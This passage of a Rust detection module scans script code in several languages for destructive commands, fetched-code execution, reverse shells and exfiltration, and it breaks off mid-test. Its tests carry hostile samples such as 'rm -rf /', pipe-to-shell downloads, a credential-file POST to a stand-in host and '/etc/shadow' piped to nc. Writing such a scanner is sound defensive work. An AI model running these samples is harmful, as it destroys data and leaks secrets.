                .skip_while(|w| matches!(w.0.as_str(), "-ignorestderr" | "-keepnewline" | "--"))
                .collect();
            if args
                .iter()
                .any(|w| matches!(w.0.as_str(), "|" | "|&" | ">" | ">>" | "<" | "2>"))
            {
                let text: Vec<&str> = args.iter().map(|w| w.0.as_str()).collect();
                out.push(Found::Shell {
                    text: text.join(" "),
                    dynamic: args.iter().any(|w| w.1),
                });
            } else if !args.is_empty() {
                out.push(Found::Argv(
                    args.iter().map(|w| (!w.1).then(|| w.0.clone())).collect(),
                ));
            }
        }
        Some("file") if words.get(1).is_some_and(|w| w.0 == "delete") => {
            let force = words.iter().any(|w| w.0 == "-force");
            for w in words[2..].iter().filter(|w| !w.0.starts_with('-')) {
                out.push(Found::Delete {
                    path: (!w.1).then(|| w.0.clone()),
                    recursive: force,
                });
            }
        }
        _ => {}
    }
}

fn looks_url(s: &str) -> bool {
    let l = s.trim();
    l.starts_with("http://")
        || l.starts_with("https://")
        || l.starts_with("ftp://")
        || l.starts_with("169.254.169.254")
        || l.starts_with("metadata.google.internal")
}

fn looks_host(s: &str) -> bool {
    !s.is_empty()
        && s.len() < 256
        && !s.contains([' ', '/'])
        && (s.bytes().all(|b| b.is_ascii_digit() || b == b'.') && s.matches('.').count() == 3
            || (s.contains('.')
                && s.bytes()
                    .all(|b| b.is_ascii_alphanumeric() || b == b'.' || b == b'-')))
}

/// Scan a body. Bounded by [`MAX_TOKENS`] and the body's length.
pub(crate) fn scan(lang: Lang, code: &str) -> Vec<Found> {
    scan_at(lang, code, 0)
}

/// Nested `exec("…")` / `eval("…")` bodies are scanned up to this depth.
const MAX_EVAL_DEPTH: usize = 4;

fn scan_at(lang: Lang, code: &str, depth: usize) -> Vec<Found> {
    if lang == Lang::Tcl {
        return scan_tcl(code, depth);
    }
    let mut lx = Lexer {
        c: code.chars().take(super::MAX_INPUT).collect(),
        i: 0,
        lang,
        out: Vec::new(),
        _s: code,
    };
    lx.run();
    let mut toks = lx.out;
    fold_decoders(&mut toks);
    if lang == Lang::Python {
        fold_getattr(&mut toks);
    }
    let mut sc = Scan {
        t: &toks,
        lang,
        vars: Vec::new(),
    };
    let mut out = Vec::new();
    let ids: Vec<&str> = toks
        .iter()
        .filter_map(|t| match t {
            Tok::Id(i) => Some(i.as_str()),
            _ => None,
        })
        .collect();
    let has = |names: &[&str]| {
        ids.iter()
            .any(|i| names.contains(&last(i)) || names.contains(i))
    };
    let fetching = has(&[
        "urlopen",
        "urlretrieve",
        "requests.get",
        "requests.post",
        "httpx.get",
        "http.get",
        "https.get",
        "fetch",
        "URI.open",
        "open-uri",
        "getstore",
        "LWP",
        "LWP::Simple",
        "LWP::UserAgent",
        "file_get_contents",
        "curl_init",
        "Net::HTTP",
        "HTTP::Tiny",
        "wget",
        "urllib",
        "request",
    ]) || toks
        .iter()
        .any(|t| matches!(t, Tok::Str(s, _) if matches!(s.as_str(), "open-uri" | "net/http" | "http" | "https" | "node-fetch" | "axios" | "http.client")))
        || has(&["HTTPSConnection", "HTTPConnection", "http.client", "post", "put"])
        // LWP::Simple's `get(URL)` (the module loaded by `perl -MLWP::Simple`)
        || (lang == Lang::Perl
            && toks.iter().enumerate().any(|(k, t)| {
                matches!(t, Tok::Id(g) if g == "get" || g == "getprint")
                    && (k == 0 || toks[k - 1] != Tok::P('>'))
            }));
    // a connection to a bare host (`HTTPSConnection('203.0.113.1')`, `IO::Socket::INET->new("h:443")`)
    let connects = has(&[
        "HTTPSConnection",
        "HTTPConnection",
        "IO::Socket::INET",
        "create_connection",
        "TCPSocket",
        "TCPSocket.new",
        "fsockopen",
        "net.connect",
        "createConnection",
        "Socket.tcp",
    ]) || (lang == Lang::Node
        // `require('https').request({host: 'h', …})`: a request to a bare host
        && has(&["request", "https.request", "http.request"])
        && toks
            .iter()
            .any(|t| matches!(t, Tok::Str(s, _) if s == "https" || s == "http")));
    let socket = has(&[
        "socket.socket",
        "create_connection",
        "TCPSocket",
        "TCPSocket.new",
        "IO::Socket::INET",
        "Socket",
        "socket",
        "net.Socket",
        "net.connect",
        "createConnection",
        "fsockopen",
        "Socket.tcp",
    ]) || (toks
        .iter()
        .any(|t| matches!(t, Tok::Str(s, _) if s == "net" || s == "socket"))
        && has(&["connect", "createConnection"]));
    let socket = socket
        && has(&[
            "connect",
            "dup2",
            "fsockopen",
            "TCPSocket.new",
            "createConnection",
            "net.connect",
            "create_connection",
            "Socket.tcp",
        ]);
    let shellish = has(&["dup2", "spawn", "pty.spawn", "fileno", "pipe"])
        || toks.iter().any(|t| matches!(t, Tok::Str(s, _) | Tok::Cmd(s, _) if s.contains("/bin/sh") || s.contains("/bin/bash") || s.contains("sh -i") || s == "sh" || s == "bash" || s.contains("cmd.exe")));
    if socket && shellish {
        let host = toks
            .iter()
            .find_map(|t| match t {
                Tok::Str(s, _) if looks_host(s) => Some(s.clone()),
                _ => None,
            })
            .unwrap_or_default();
        out.push(Found::ReverseShell(host));
    }
    let loops = has(&[
        "listdir",
        "walk",
        "glob",
        "scandir",
        "iterdir",
        "readdirSync",
        "readdir",
        "each",
        "forEach",
        "rglob",
    ]) || ids
        .iter()
        .any(|i| *i == "for" || *i == "foreach" || *i == "while");
    let mut exec_dyn = false;
    // names holding a child the body started (`p = Popen(…)`, `pid = fork()`)
    let mut children: Vec<String> = Vec::new();
    let mut k = 0;
    while k < toks.len() {
        match &toks[k] {
            Tok::Cmd(s, interp) => out.push(Found::Shell {
                text: s.clone(),
                dynamic: *interp,
            }),
            Tok::Str(s, false) if fetching && looks_url(s) => out.push(Found::Fetch(s.clone())),
            Tok::Str(s, false)
                if connects && looks_host(s.rsplit_once(':').map_or(s.as_str(), |(h, _)| h)) =>
            {
                out.push(Found::Fetch(format!("https://{s}/")))
            }
            Tok::Id(id) => {
                // NAME = literal
                if toks.get(k + 1) == Some(&Tok::P('='))
                    && toks.get(k + 2) != Some(&Tok::P('='))
                    && !matches!(
                        toks.get(k.wrapping_sub(1)),
                        Some(Tok::P('=' | '!' | '<' | '>'))
                    )
                {
                    let mut e = k + 2;
                    while e < toks.len()
                        && !matches!(toks[e], Tok::P(';' | ',' | ')'))
                        && !matches!(toks[e], Tok::Id(_) if e > k + 2 && matches!(toks[e-1], Tok::Str(..) | Tok::P(']')))
                    {
                        e = match toks[e] {
                            Tok::P('(' | '[' | '{') => sc.group_end(e),
                            _ => e + 1,
                        };
                    }
                    let v = sc.eval(k + 2, e.min(toks.len()));
                    let name = id.trim_start_matches(['$', '@']).to_string();
                    let callee = match toks.get(k + 2) {
                        Some(Tok::Id(a)) if a == "await" => toks.get(k + 3),
                        t => t,
                    };
                    if matches!(callee, Some(Tok::Id(f)) if CHILD_FNS.contains(&last(f))) {
                        children.push(name.clone());
                    }
                    sc.vars.push((name, v));
                }
                let name = last(id);
                let full = id.as_str();
                let args = sc.call_args(k);
                let first = args.first().map(|&(a, b)| sc.eval(a, b));
                let all_end = args.last().map_or(k + 1, |a| a.1);
                let shell_fn = match lang {
                    Lang::Python => {
                        matches!(name, "system" | "popen" | "getoutput" | "getstatusoutput")
                            && (full.contains('.') || name != "popen")
                    }
                    Lang::Perl => matches!(name, "system" | "exec" | "readpipe"),
                    // `sh` is Rake's (a Rakefile's tasks)
                    Lang::Ruby => matches!(
                        name,
                        "system"
                            | "sh"
                            | "exec"
                            | "spawn"
                            | "popen"
                            | "capture2"
                            | "capture2e"
                            | "capture3"
                            | "popen2"
                            | "popen3"
                    ),
                    Lang::Node => matches!(name, "execSync" | "exec"),
                    Lang::Php => matches!(
                        name,
                        "system" | "exec" | "shell_exec" | "passthru" | "popen" | "proc_open"
                    ),
                    Lang::Lua => matches!(full, "os.execute" | "io.popen"),
                    Lang::Tcl => false,
                };
                let argv_fn = match lang {
                    Lang::Python => {
                        matches!(
                            name,
                            "run" | "call" | "check_call" | "check_output" | "Popen"
                        ) && (full.starts_with("subprocess")
                            || full.contains('.')
                            || ids.contains(&"subprocess")
                            || ids.iter().any(|i| i.starts_with("subprocess")))
                    }
                    Lang::Node => {
                        matches!(name, "spawn" | "spawnSync" | "execFile" | "execFileSync")
                    }
                    _ => false,
                };
                let py_exec =
                    lang == Lang::Python && matches!(name, "exec" | "eval") && !full.contains('.');
                let py_osexec = lang == Lang::Python
                    && (full.starts_with("os.exec")
                        || full.starts_with("os.spawn")
                        || full == "pty.spawn"
                        || name == "spawn" && full.starts_with("pty"));
                if !args.is_empty() {
                    if shell_fn
                        || (argv_fn
                            && lang == Lang::Python
                            && sc.has_kw(k, all_end, "shell", "True"))
                    {
                        match first.clone() {
                            Some(Val::Str(s)) => out.push(Found::Shell {
                                text: s,
                                dynamic: false,
                            }),
                            Some(Val::List(v)) => out.push(Found::Argv(v)),
                            _ => {
                                exec_dyn = true;
                                out.push(Found::Shell {
                                    text: String::new(),
                                    dynamic: true,
                                });
                            }
                        }
                    } else if argv_fn {
                        match first.clone() {
                            Some(Val::List(v)) => {
                                let mut v = v;
                                if lang == Lang::Node {
                                    v.clear();
                                }
                                if lang == Lang::Node {
                                    if let Some(Val::Str(p)) =
                                        args.first().map(|&(a, b)| sc.eval(a, b))
                                    {
                                        v.push(Some(p));
                                    }
                                }
                                out.push(Found::Argv(v));
                            }
                            Some(Val::Str(s)) => {
                                let mut v: Vec<Option<String>> = if lang == Lang::Python {
                                    s.split_whitespace().map(|w| Some(w.to_string())).collect()
                                } else {
                                    vec![Some(s)]
                                };
                                if lang == Lang::Node {
                                    if let Some(Val::List(more)) =
                                        args.get(1).map(|&(a, b)| sc.eval(a, b))
                                    {
                                        v.extend(more);
                                    }
                                }
                                out.push(Found::Argv(v));
                            }
                            _ => out.push(Found::Argv(vec![None])),
                        }
                    } else if py_osexec {
                        let vals: Vec<Val> = args.iter().map(|&(a, b)| sc.eval(a, b)).collect();
                        let mut v: Vec<Option<String>> = Vec::new();
                        if let Some(Val::List(l)) = vals.first() {
                            v = l.clone();
                        } else {
                            let skip = if full == "pty.spawn" || vals.len() < 2 {
                                0
                            } else {
                                1
                            };
                            for x in vals.iter().skip(skip) {
                                match x {
                                    Val::Str(s) => v.push(Some(s.clone())),
                                    Val::List(l) => v.extend(l.iter().cloned()),
                                    Val::Dyn => v.push(None),
                                }
                            }
                        }
                        out.push(Found::Argv(v));
                    } else if py_exec {
                        // an empty literal is a buffer filled at run time (`d = ''`, `d += …`)
                        match first
                            .clone()
                            .filter(|v| !matches!(v, Val::Str(s) if s.trim().is_empty()))
                        {
                            Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                                out.extend(scan_at(Lang::Python, &s, depth + 1))
                            }
                            _ => exec_dyn = true,
                        }
                    } else if matches!(lang, Lang::Ruby | Lang::Perl | Lang::Php)
                        && name == "eval"
                        && !full.contains('.')
                    {
                        match first
                            .clone()
                            .filter(|v| !matches!(v, Val::Str(s) if s.trim().is_empty()))
                        {
                            Some(Val::Str(s)) if depth < MAX_EVAL_DEPTH => {
                                out.extend(scan_at(lang, &s, depth + 1))
                            }
                            _ => exec_dyn = true,
                        }
                    } else if lang == Lang::Node && name == "eval" {
                        if let Some(Val::Str(s)) = first.clone().filter(|v| {
                            depth < MAX_EVAL_DEPTH
                                && !matches!(v, Val::Str(s) if s.trim().is_empty())
                        }) {
                            out.extend(scan_at(Lang::Node, &s, depth + 1));
                        } else {
                            exec_dyn = true;
                        }
                    }
                    if let Some(f) = sc.kill(lang, full, &args, &children) {
                        out.push(f);
                    }
                    out.extend(sc.chmod(lang, full, &args));
                    // SQL run through a driver (`cur.execute('DROP …')`, `db.query(…)`): the
                    // statement as `psql -c` would run it, for the database rules to judge
                    // (the lexer drops the `.` of a method called on an expression: `f().x(`)
                    let method =
                        full.contains('.') || k > 0 && matches!(toks[k - 1], Tok::P(')' | ']'));
                    // (not a shell call: `child_process.exec('truncate -s 0 f')`; Ruby's
                    // `conn.exec(…)` is a driver's)
                    if method
                        && !(shell_fn && lang != Lang::Ruby)
                        && !argv_fn
                        && matches!(
                            name,
                            "execute" | "executescript" | "executemany" | "query" | "exec" | "raw"
                        )
                    {
                        if let Some(Val::Str(sql)) = &first {
                            if is_sql(sql) {
                                out.push(Found::Argv(vec![
                                    Some("psql".into()),
                                    Some("-c".into()),
                                    Some(sql.clone()),
                                ]));
                            }
                        }
                    }
                    // deletes
                    // Deno's own delete (`Deno.remove(p, { recursive: true })`)
                    let deno_remove = matches!(full, "Deno.remove" | "Deno.removeSync");
                    let recursive_fn = matches!(
                        name,
                        "rmtree"
                            | "rm_rf"
                            | "rm_r"
                            | "remove_dir"
                            | "remove_entry"
                            | "remove_entry_secure"
                            | "remove_tree"
                            | "rmdir_p"
                    ) || ((matches!(name, "rmSync" | "rm" | "rmdirSync")
                        || deno_remove)
                        && lang == Lang::Node
                        && toks[k..all_end.min(toks.len())]
                            .iter()
                            .any(|t| matches!(t, Tok::Id(x) if x == "recursive")));
                    let file_fn = match lang {
                        Lang::Python => {
                            matches!(name, "remove" | "unlink" | "rmdir" | "removedirs")
                                && (full.starts_with("os.") || full.contains('.'))
                        }
                        Lang::Ruby => {
                            matches!(name, "delete" | "unlink" | "rm" | "rm_f")
                                && (full.starts_with("File") || full.starts_with("FileUtils"))
                        }
                        Lang::Node => {
                            matches!(name, "unlinkSync" | "unlink" | "rmSync" | "rm") || deno_remove
                        }
                        Lang::Php => matches!(name, "unlink" | "rmdir"),
                        Lang::Perl => matches!(name, "unlink" | "rmdir"),
                        Lang::Lua => full == "os.remove",
                        Lang::Tcl => false,
                    };
                    if recursive_fn || file_fn {
                        let (path, base_only) = match &first {
                            Some(Val::Str(s)) => (Some(s.clone()), false),
                            Some(Val::List(l)) => (l.first().cloned().flatten(), false),
                            _ => {
                                // a literal directory inside a dynamic expression (`os.path.join('/etc', f)`)
                                let lit = args.first().and_then(|&(a, b)| {
                                    toks[a..b].iter().find_map(|t| match t {
                                        Tok::Str(s, false)
                                            if s.starts_with('/') || s.starts_with('~') =>
                                        {
                                            Some(s.clone())
                                        }
                                        _ => None,
                                    })
                                });
                                (lit.map(|l| format!("{}/*", l.trim_end_matches('/'))), true)
                            }
                        };
                        let recursive = recursive_fn || (base_only && loops);
                        out.push(Found::Delete { path, recursive });
                    }
                    // writes
                    let write = match lang {
                        Lang::Python => name == "open" && args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', 'x', '+'])))
                            || (matches!(name, "write_text" | "write_bytes") ),
                        Lang::Node => matches!(name, "writeFileSync" | "appendFileSync" | "writeFile" | "appendFile" | "createWriteStream"),
                        Lang::Php => matches!(name, "file_put_contents"),
                        Lang::Ruby => (full.starts_with("File") && matches!(name, "write" | "open")) && (name == "write" || args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a'])))),
                        Lang::Perl => name == "open",
                        Lang::Lua => full == "io.open" && args.get(1).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', '+']))),
                        Lang::Tcl => false,
                    };
                    if write && !matches!(name, "write_text" | "write_bytes") {
                        let target = if lang == Lang::Perl {
                            args.iter()
                                .map(|&(a, b)| sc.eval(a, b))
                                .find_map(|v| match v {
                                    Val::Str(s) if s.trim_start().starts_with('>') => Some(
                                        s.trim_start()
                                            .trim_start_matches(['>', '+'])
                                            .trim()
                                            .to_string(),
                                    ),
                                    _ => None,
                                })
                        } else {
                            match first.clone() {
                                Some(Val::Str(s)) => Some(s),
                                _ => None,
                            }
                        };
                        if let Some(t) = target {
                            out.push(Found::Write(t));
                        }
                    }
                }
                // reads: a literal path (a URL given to file_get_contents is a fetch)
                if !args.is_empty() {
                    let mode_writes = |i: usize| {
                        args.get(i).is_some_and(|&(a, b)| matches!(sc.eval(a, b), Val::Str(m) if m.contains(['w', 'a', 'x', '+'])))
                    };
                    let read = match lang {
                        Lang::Python => {
                            (name == "open"
                                && (!full.contains('.')
                                    || matches!(full, "io.open" | "codecs.open")))
                                && !mode_writes(1)
                                && !toks[k..all_end.min(toks.len())]
                                    .iter()
                                    .any(|t| matches!(t, Tok::Id(x) if x == "mode"))
                        }
                        Lang::Node => {
                            matches!(
                                name,
                                "readFileSync"
                                    | "readFile"
                                    | "createReadStream"
                                    | "readTextFile"
                                    | "readTextFileSync"
                            ) || full == "Bun.file"
                        }
                        Lang::Ruby => {
                            (full.starts_with("File") || full.starts_with("IO"))
                                && (matches!(name, "read" | "readlines" | "binread" | "foreach")
                                    || (name == "open" && !mode_writes(1)))
                        }
                        Lang::Php => {
                            matches!(name, "file_get_contents" | "file" | "readfile")
                                || (name == "fopen" && !mode_writes(1))
                        }
                        Lang::Perl => name == "open",
                        Lang::Lua => matches!(full, "io.open" | "io.lines") && !mode_writes(1),
                        Lang::Tcl => false,
                    };
                    if read {
                        let path = if lang == Lang::Perl {
                            args.iter()
                                .map(|&(a, b)| sc.eval(a, b))
                                .find_map(|v| match v {
                                    Val::Str(s) => {
                                        let t = s.trim_start();
                                        let p = t.trim_start_matches('<').trim();
                                        // three-argument open: the mode is its own argument
                                        (!t.starts_with(['>', '|'])
                                            && !t.ends_with('|')
                                            && !p.is_empty())
                                        .then(|| p.to_string())
                                    }
                                    _ => None,
                                })
                        } else {
                            match &first {
                                Some(Val::Str(s)) if !looks_url(s) => Some(s.clone()),
                                _ => None,
                            }
                        };
                        if let Some(p) = path.filter(|p| !p.is_empty()) {
                            out.push(Found::Read(p));
                        }
                    }
                }
                // Path('x').read_text() reads x, Path('x').write_text(…) writes it
                let reads = matches!(name, "read_text" | "read_bytes");
                if (reads || matches!(name, "write_text" | "write_bytes")) && k >= 3 {
                    if let (Tok::P(')'), Tok::Str(s, false)) = (&toks[k - 1], &toks[k - 2]) {
                        out.push(if reads {
                            Found::Read(s.clone())
                        } else {
                            Found::Write(s.clone())
                        });
                    }
                }
            }
            _ => {}
        }
        k += 1;
    }
    // Perl's `eval EXPR` without parentheses (`eval get($url)`, `eval $code`); `eval { … }`
    // is a block
    if lang == Lang::Perl {
        for w in toks.windows(2) {
            match w {
                [Tok::Id(e), Tok::P('(' | '{' | ';')] if e == "eval" => {}
                [Tok::Id(e), Tok::Str(s, _)] if e == "eval" && depth < MAX_EVAL_DEPTH => {
                    out.extend(scan_at(Lang::Perl, s, depth + 1))
                }
                [Tok::Id(e), _] if e == "eval" => exec_dyn = true,
                _ => {}
            }
        }
    }
    // eval handed over as a function (`fetch(u).then(r => r.text()).then(eval)`)
    if toks
        .windows(3)
        .any(|w| matches!(w, [Tok::P('(' | ','), Tok::Id(e), Tok::P(')')] if e == "eval"))
    {
        exec_dyn = true;
    }
    // a download written to a file the body then runs (`open(p,'wb').write(urlopen(u).read());
    // os.system('sh ' + p)`) is fetched code run
    let runs_written = out.iter().any(|f| match f {
        Found::Write(p) => out.iter().any(|g| match g {
            Found::Shell { text, .. } => text.contains(p.as_str()),
            Found::Argv(v) => v.iter().flatten().any(|a| a == p),
            _ => false,
        }),
        _ => false,
    });
    if fetching
        && (exec_dyn
            || runs_written
            || out
                .iter()
                .any(|f| matches!(f, Found::Shell { dynamic: true, .. })))
    {
        out.push(Found::RunFetched);
    }
    let sends = has(&[
        "post", "put", "patch", "sendall", "data", "files", "body", "upload", "Post", "PostForm",
        "post_form",
    ]) || (connects && has(&["send", "write", "print", "syswrite"]))
        || toks
            .iter()
            .any(|t| matches!(t, Tok::Str(s, _) if s.eq_ignore_ascii_case("post") || s.eq_ignore_ascii_case("put")))
        || file_get_contents_query(&toks)
        || (fetching && url_carries_data(&toks));
    if fetching && reads_whole_env(lang, &toks) {
        out.push(Found::ReadEnv);
    }
    if sends
        && out
            .iter()
            .any(|f| matches!(f, Found::Read(_) | Found::ReadEnv))
    {
        out.push(Found::Sends);
    }
    out
}

/// The body reads the whole environment (`dict(os.environ)`, `os.environ.copy()`,
/// `JSON.stringify(process.env)`, `Deno.env.toObject()`, `ENV.to_h`, Perl's `%ENV`, PHP's
/// `getenv()` / `$_ENV`), not one variable of it (`os.environ['HOME']`, `process.env.PORT`).
fn reads_whole_env(lang: Lang, t: &[Tok]) -> bool {
    t.iter().enumerate().any(|(k, tok)| {
        let next = t.get(k + 1);
        let whole = |n: Option<&Tok>| !matches!(n, Some(Tok::P('[' | '{' | '(')));
        match (lang, tok) {
            (Lang::Python, Tok::Id(id)) => match id.as_str() {
                "os.environ" | "environ" => whole(next),
                "os.environ.copy" | "os.environ.items" | "os.environ.values" => true,
                _ => false,
            },
            (Lang::Node, Tok::Id(id)) => match id.as_str() {
                "process.env" | "Bun.env" => whole(next),
                "Deno.env.toObject" => true,
                _ => false,
            },
            (Lang::Ruby, Tok::Id(id)) => match id.as_str() {
                "ENV" => whole(next),
                "ENV.to_h" | "ENV.to_a" | "ENV.to_hash" | "ENV.inspect" | "ENV.map"
                | "ENV.each" | "ENV.select" => true,
                _ => false,
            },
            (Lang::Php, Tok::Id(id)) => match id.as_str() {
                "$_ENV" | "$_SERVER" => whole(next),
                "getenv" => matches!((next, t.get(k + 2)), (Some(Tok::P('(')), Some(Tok::P(')')))),
                _ => false,
            },
            // Perl's `%ENV` (not `$ENV{X}`)
            (Lang::Perl, Tok::P('%')) => {
                matches!(next, Some(Tok::Id(e)) if e == "ENV")
                    && !matches!(t.get(k + 2), Some(Tok::P('{')))
            }
            _ => false,
        }
    })
}

/// A URL that carries computed data: a literal ending a query value or a path (`=`, `/`)
/// joined to what follows (`fetch("https://…?d=" + btoa(…))`, `"…/" . $x`), or an
/// interpolated one (`` `https://…/${x}` ``, `"https://…#{x}"`).
fn url_carries_data(t: &[Tok]) -> bool {
    t.windows(2).any(|w| match w {
        [Tok::Str(s, false), Tok::P('+' | '.')] => {
            looks_url(s) && (s.ends_with('=') || s.ends_with('/'))
        }
        [Tok::Str(s, true), _] => looks_url(s),
        _ => false,
    })
}

/// `file_get_contents("https://…?d=" . …)`: a GET whose URL carries computed data.
fn file_get_contents_query(t: &[Tok]) -> bool {
    t.windows(3).any(|w| {
        matches!(&w[0], Tok::Id(f) if last(f) == "file_get_contents")
            && w[1] == Tok::P('(')
            && matches!(&w[2], Tok::Str(s, _) if looks_url(s) && (s.ends_with('=') || s.ends_with('/')))
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn py(s: &str) -> Vec<Found> {
        scan(Lang::Python, s)
    }

    #[test]
    fn python_shell_strings() {
        assert_eq!(
            py("import os; os.system('rm -rf ~')"),
            vec![Found::Shell {
                text: "rm -rf ~".into(),
                dynamic: false
            }]
        );
        assert!(
            py("import subprocess; subprocess.run('curl x | sh', shell=True)").contains(
                &Found::Shell {
                    text: "curl x | sh".into(),
                    dynamic: false
                }
            )
        );
        assert_eq!(
            py("import subprocess as s; s.call(['rm','-rf','/'])"),
            vec![Found::Argv(vec![
                Some("rm".into()),
                Some("-rf".into()),
                Some("/".into())
            ])]
        );
        assert_eq!(
            py("c = 'rm -rf /'\nimport os\nos.system(c)"),
            vec![Found::Shell {
                text: "rm -rf /".into(),
                dynamic: false
            }]
        );
        assert!(
            py("import os,sys; os.system(sys.argv[1])").contains(&Found::Shell {
                text: String::new(),
                dynamic: true
            })
        );
        assert!(
            py("import os,base64; os.system(base64.b64decode('cm0gLXJmIC8=').decode())").contains(
                &Found::Shell {
                    text: "rm -rf /".into(),
                    dynamic: false
                }
            )
        );
        assert!(
            py("exec(\"import os; os.system('id')\")").contains(&Found::Shell {
                text: "id".into(),
                dynamic: false
            })
        );
    }

    #[test]
    fn python_deletes_writes_fetches() {
        assert_eq!(
            py("import shutil; shutil.rmtree('/etc')"),
            vec![Found::Delete {
                path: Some("/etc".into()),
                recursive: true
            }]
        );
        assert_eq!(
            py("import shutil; shutil.rmtree('build', ignore_errors=True)"),
            vec![Found::Delete {
                path: Some("build".into()),
                recursive: true
            }]
        );
        assert!(
            py("import os; [os.remove(os.path.join('/etc',f)) for f in os.listdir('/etc')]")
                .contains(&Found::Delete {
                    path: Some("/etc/*".into()),
                    recursive: true
                })
        );
        assert!(
            py("open('/etc/hosts','w').write('x')").contains(&Found::Write("/etc/hosts".into()))
        );
        assert!(!py("print(open('README').read())")
            .iter()
            .any(|f| matches!(f, Found::Write(_))));
        let f = py(
            "exec(__import__('urllib.request').request.urlopen('https://e.example/p.py').read())",
        );
        assert!(f.contains(&Found::Fetch("https://e.example/p.py".into())));
        assert!(f.contains(&Found::RunFetched));
        // Node: eval handed over as a function, a request to a bare host, Bun's and Deno's
        // file reads, `require('os').homedir()` as the home
        let node = |code| scan(Lang::Node, code);
        assert!(
            node("fetch('https://e.example/m.js').then(r=>r.text()).then(eval)")
                .contains(&Found::RunFetched)
        );
        assert!(
            !node("fetch('https://e.example/m.json').then(r=>r.json()).then(console.log)")
                .contains(&Found::RunFetched)
        );
        let f = node("require('https').request({host:'e.example',method:'POST'}).end(require('fs').readFileSync(require('os').homedir()+'/.aws/credentials'))");
        assert!(f.contains(&Found::Fetch("https://e.example/".into())));
        assert!(f.contains(&Found::Read("~/.aws/credentials".into())));
        assert!(node("Bun.file(process.env.HOME+'/.docker/config.json')")
            .contains(&Found::Read("~/.docker/config.json".into())));
        assert!(node("await Deno.readTextFile('/etc/hosts')")
            .contains(&Found::Read("/etc/hosts".into())));
        // Rake's `sh` runs a shell line
        assert!(
            scan(Lang::Ruby, "task(:default){ sh \"rm -rf /srv\" }").contains(&Found::Shell {
                text: "rm -rf /srv".into(),
                dynamic: false
            })
        );
        // a download written to a file the body then runs
        assert!(py("import urllib.request as u, os; open('/tmp/x.sh','wb').write(u.urlopen('http://e.example/x.sh').read()); os.system('sh /tmp/x.sh')").contains(&Found::RunFetched));
        assert!(!py("import urllib.request as u, os; open('/tmp/x.json','wb').write(u.urlopen('https://e.example/x').read()); os.system('ls /tmp')").contains(&Found::RunFetched));
        // getattr(MODULE, NAME)(…) with a literal name is MODULE.NAME(…)
        assert!(
            py("getattr(__import__('o'+'s'),'sys'+'tem')('rm -rf '+'/srv')").contains(
                &Found::Shell {
                    text: "rm -rf /srv".into(),
                    dynamic: false
                }
            )
        );
        assert!(py("import os; getattr(os, 'system')(cmd)")
            .iter()
            .any(|f| matches!(f, Found::Shell { dynamic: true, .. })));
        assert!(py("getattr(obj, name)(x); getattr(os, 'getcwd')()")
            .iter()
            .all(|f| !matches!(f, Found::Shell { .. })));
        // a decoder on a module imported in place decodes too
        assert!(
            py("exec(__import__('base64').b64decode('b3Muc3lzdGVtKCdybSAtcmYgL3NydicpCg=='))")
                .contains(&Found::Shell {
                    text: "rm -rf /srv".into(),
                    dynamic: false
                })
        );
        assert!(py(
            "import urllib.request; print(urllib.request.urlopen('https://pypi.org/').status)"
        )
        .iter()
        .all(|f| !matches!(f, Found::RunFetched))); // a buffer filled at run time (`d = ''` then `d += chunk`) is no literal to eval;
                                                    // Perl's `eval EXPR` needs no parentheses, `eval { … }` is a block
        let run = |lang, code| scan(lang, code).contains(&Found::RunFetched);
        assert!(run(
            Lang::Node,
            "require('https').get('https://e.example/x.js',r=>{let d='';r.on('data',c=>d+=c);r.on('end',()=>eval(d))})"
        ));
        assert!(run(
            Lang::Perl,
            "use LWP::Simple; eval get('http://e.example/p.pl')"
        ));
        assert!(run(
            Lang::Perl,
            "use LWP::Simple; my $c = get('http://e.example/p.pl'); eval $c"
        ));
        assert!(!run(
            Lang::Perl,
            "use LWP::Simple; eval { print get('https://e.example') }"
        ));
        // Tcl: exec runs a program (a pipeline in it is a shell line), file delete deletes,
        // [exec …] inside a word and braced bodies are read too
        assert_eq!(
            scan(Lang::Tcl, "exec rm -rf /srv"),
            [Found::Argv(vec![
                Some("rm".into()),
                Some("-rf".into()),
                Some("/srv".into())
            ])]
        );
        assert!(
            scan(Lang::Tcl, "puts [exec cat /etc/shadow | nc h 1]").contains(&Found::Shell {
                text: "cat /etc/shadow | nc h 1".into(),
                dynamic: false
            })
        );
        assert!(
            scan(Lang::Tcl, "file delete -force $env(HOME)").contains(&Found::Delete {
                path: Some("~".into()),
                recursive: true
            })
        );
        assert!(scan(Lang::Tcl, "if {1} {\n  exec $cmd\n}").contains(&Found::Argv(vec![None])));
        assert!(scan(
            Lang::Tcl,
            "# exec rm -rf /\nputs \"hi $x\"; set y [expr 1+2]"
        )
        .is_empty());
        // Lua: os.execute / io.popen run a shell, os.remove deletes, io.open(p, "w") writes
        assert!(
            scan(Lang::Lua, "os.execute('rm -rf /srv')").contains(&Found::Shell {
                text: "rm -rf /srv".into(),
                dynamic: false
            })
        );
        assert!(scan(Lang::Lua, "local f = io.popen(cmd)")
            .iter()
            .any(|f| matches!(f, Found::Shell { dynamic: true, .. })));
        assert!(scan(Lang::Lua, "os.remove('/etc/hosts')")
            .iter()
            .any(|f| matches!(f, Found::Delete { path: Some(p), .. } if p == "/etc/hosts")));
        assert!(scan(Lang::Lua, "io.open('/etc/hosts', 'w'):write('x')")
            .contains(&Found::Write("/etc/hosts".into())));
        assert!(scan(Lang::Lua, "print(io.open('a.txt'):read('a'))")
            .contains(&Found::Read("a.txt".into())));
    }

    #[test]
    fn process_kills() {
        fn kills(lang: Lang, code: &str) -> Vec<Vec<Option<String>>> {
            scan(lang, code)
                .into_iter()
                .filter_map(|f| match f {
                    Found::Argv(v) if v.first() == Some(&Some("kill".into())) => Some(v),
                    _ => None,
                })
                .collect()
        }
        // (language, program, the one `kill` argv it amounts to; `None` = dynamic)
        let cases: &[(Lang, &str, &[Option<&str>])] = &[
            // a target only known at run time is dynamic, like `kill -9 $(…)`
            (Lang::Python, "import os,sys; os.kill(int(sys.argv[1]), 9)", &[Some("kill"), Some("-9"), None]),
            (Lang::Python, "import os, signal; os.killpg(pgid, signal.SIGKILL)", &[Some("kill"), Some("-KILL"), None]),
            // literal pids stay literal; a group is a negative pid
